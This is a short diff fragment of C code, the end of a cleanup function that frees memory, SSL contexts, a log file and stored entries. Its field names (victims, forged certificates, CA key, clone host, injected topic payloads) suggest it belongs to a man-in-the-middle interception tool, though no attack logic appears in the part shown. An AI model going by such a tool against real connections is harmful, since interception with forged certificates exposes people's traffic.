+		victim_destroy(m->victims);
+	if (m->deadline)
+		event_free(m->deadline);
+	if (m->lst)
+		evconnlistener_free(m->lst);
+	if (m->fetch)
+		upstream_fetch_free(m->fetch);
+	if (m->log)
+		fclose(m->log);
+	SSL_CTX_free(m->srv_ctx);
+	SSL_CTX_free(m->up_ctx);
+	SSL_CTX_free(m->fetch_ctx);
+	forge_free(&m->forged);
+	free(m->upstream_host);
+	free(m->clone_file);
+	free(m->clone_host);
+	free(m->ca_cert);
+	free(m->ca_key);
+	for (size_t i = 0; m->names && i < m->fopts.n_names; i++)
+		free(m->names[i]);
+	free(m->names);
+	for (size_t i = 0; i < m->n_inject; i++) {
+		free((char *)m->inject[i].topic);
+		free((char *)m->inject[i].payload);
+	}
+	free(m->inject);
+	for (size_t i = 0; i < m->n_kept; i++)
+		kept_clear(&m->kept[i]);
+	free(m->kept);
+	for (size_t i = 0; i < m->n_retained; i++)
+		kept_clear(&m->retained[i]);
+	free(m->retained);
+	free(m);
+}
